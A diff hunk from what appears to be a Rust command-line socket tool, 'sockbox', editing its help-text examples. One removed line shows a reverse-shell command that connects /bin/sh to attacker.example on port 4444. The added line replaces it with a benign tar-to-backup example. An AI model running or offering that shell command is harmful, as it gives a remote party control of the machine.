@@ -21,7 +21,7 @@ const EXAMPLES: &str = "Examples:
   head -c 1G /dev/zero | sockbox connect 10.0.0.2 9000      # splice(2) fast path
   sockbox connect -u 192.0.2.1 53 -q 2 < query.bin           # UDP, quit 2 s after EOF
   sockbox connect -x traffic.dump localhost 25               # hex dump tagged > sent / < received
-  sockbox connect -c 'exec /bin/sh' attacker.example 4444    # a program instead of stdin/stdout
+  sockbox connect -c 'tar cf - ./data' backup.example 9000   # a program's stdin/stdout on the socket
   sockbox connect --tls example.com 443                      # TLS, certificate checked
 
 Half-close: at end of standard input the socket's write side is shut down
